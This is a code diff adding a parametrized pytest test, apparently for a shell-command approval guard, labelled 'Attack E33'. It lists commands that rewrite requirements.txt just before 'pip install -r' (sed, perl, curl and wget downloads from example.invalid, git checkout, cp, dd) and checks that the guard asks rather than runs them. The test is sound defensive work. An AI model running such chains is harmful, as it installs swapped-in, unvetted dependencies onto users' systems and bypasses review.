@@ -297,3 +297,21 @@ def test_a_large_requirements_file_is_linear_and_answers_in_time(
     small, large = seconds(600), seconds(4800)
     assert large < 1.0
     assert large < 8 * 3 * max(small, 0.01), (small, large)
+
+
+@pytest.mark.parametrize("shape", SHAPES)
+@pytest.mark.parametrize("writer", [
+    f"sed -i s/rich/{INVENTED}/ requirements.txt", f"perl -pi -e s/rich/{INVENTED}/ requirements.txt",
+    "curl -sSLo requirements.txt https://example.invalid/r.txt", "curl -o requirements.txt https://example.invalid/r",
+    "wget -O requirements.txt https://example.invalid/r", "git checkout other -- requirements.txt",
+    "cp /tmp/elsewhere.txt requirements.txt", "dd if=/tmp/x of=requirements.txt",
+])  # fmt: skip
+def test_a_file_rewritten_earlier_in_the_command_is_asked_about(
+    project: Repo, shape: str, writer: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Attack E33: the committed file on disk is not what the install reads once the command has rewritten it."""
+    assert answer(SHAPES[shape]("pip install -r requirements.txt", project.root), monkeypatch, capsys)[0] == "run"
+    command = f"{writer} && pip install -r requirements.txt"
+    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys)[0] == "ask", command
+    reading = "sed -n p requirements.txt && pip install -r requirements.txt"  # reads, writes nothing
+    assert answer(SHAPES[shape](reading, project.root), monkeypatch, capsys)[0] == "run"
